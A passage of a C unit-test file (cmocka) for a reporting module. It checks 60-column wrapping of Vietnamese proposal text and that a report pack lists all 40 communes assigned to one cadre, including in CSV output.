	    report_write_proposals(&r, REPORT_TABLE, path, err), 0);
	buf = slurp(path, &len);
	assert_int_equal(coso_text_check((const uint8_t *) buf, len), COSO_OK);
	assert_null(strchr(buf, '\t'));
	assert_null(strchr(buf, '\r'));
	assert_null(strstr(buf, "…"));
	assert_non_null(line = strstr(buf, "01/01/2025"));
	assert_non_null(eol = strchr(line, '\n'));
	*eol = 0;
	/* 60 columns: "Đề nghị hỗ trợ làm đường bê tông " is 33, then 27
	 * of the next, up to a space. */
	n = strlen(line);
	assert_true(n > 62);
	assert_string_equal(line + n
	        - strlen("Xã Đào Viên  Đề nghị hỗ trợ "
	                 "làm đường bê tông Đề nghị "
	                 "hỗ trợ làm đường bê"),
	    "Xã Đào Viên  Đề nghị hỗ trợ làm đường bê tông Đề nghị hỗ trợ "
	    "làm đường bê");
	/* The lines after it hold the rest: joined, the whole text. */
	want[0] = 0;
	strcat(want, strstr(line, "Đề nghị"));
	for (line = eol + 1; *line == ' '; line = eol + 1) {
		assert_non_null(eol = strchr(line, '\n'));
		*eol = 0;
		line += strspn(line, " ");
		assert_true(coso_text_cols(line, strlen(line)) <= 60);
		strcat(want, " ");
		strcat(want, line);
	}
	assert_string_equal(want, text);
	free(buf);
	snprintf(path, sizeof(path), "rm -rf %s", dir);
	assert_int_equal(system(path), 0);
}

/* A cadre of the sector in charge of 40 communes: the pack lists every
 * one of them (it used to stop at 256 bytes), in CSV too. */
static void
test_pack_many_units(void **state)
{
	struct fx *f          = *state;
	struct coso_body *b   = body();
	struct report_pack *r = NULL;
	char err[REPORT_ERRMSG_MAX], code[32], path[128], *csv;
	size_t i, len;

	unit_op(b, "20", 1, NULL, 20200101, 0, NULL);
	unit_op(b, "180", 2, "20", 20200101, 0, NULL);
	cadre_op(b, "cb-a");
	assign_op(b, "cb-a", NULL, "KT", 1, 20250101, 0);
	for (i = 0; i < 40; i++) {
		snprintf(code, sizeof(code), "COMMUNE-%04zu", i);
		unit_op(b, code, 3, "180", 20200101, 0, NULL);
		assign_op(b, "cb-a", code, NULL, 1, 20250101, 0);
	}
	push(f, &f->admin, b, T0, T0);
	coso_body_free(b);
	assert_int_equal(
	    report_pack(rdb(f), "2025-Q3", "KT", TODAY, &r, err), 0);
	assert_int_equal(r->nlines, 1);
	/* 40 codes of 12 characters, 39 separators of 2. */
	assert_int_equal(strlen(r->lines[0].units), 40 * 12 + 39 * 2);
	assert_non_null(strstr(r->lines[0].units, "COMMUNE-0000, "));
	assert_non_null(strstr(r->lines[0].units, ", COMMUNE-0039"));
	snprintf(path, sizeof(path), "%s/pack.csv", f->dir);
	assert_int_equal(report_write_pack(r, REPORT_CSV, path, err), 0);
	csv = slurp(path, &len);
	assert_non_null(strstr(csv, r->lines[0].units));
	free(csv);
	report_pack_free(r);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test_setup_teardown(test_small, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_json, setup, teardown),
	    cmocka_unit_test_setup_teardown(
	        test_measured_skew, setup, teardown),
	    cmocka_unit_test(test_cells),
	    cmocka_unit_test_setup_teardown(
	        test_pack_many_units, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_generated, setup, teardown),
	};

	if (sodium_init() < 0) {
		return 1;
	}
	return cmocka_run_group_tests(tests, NULL, NULL);
}
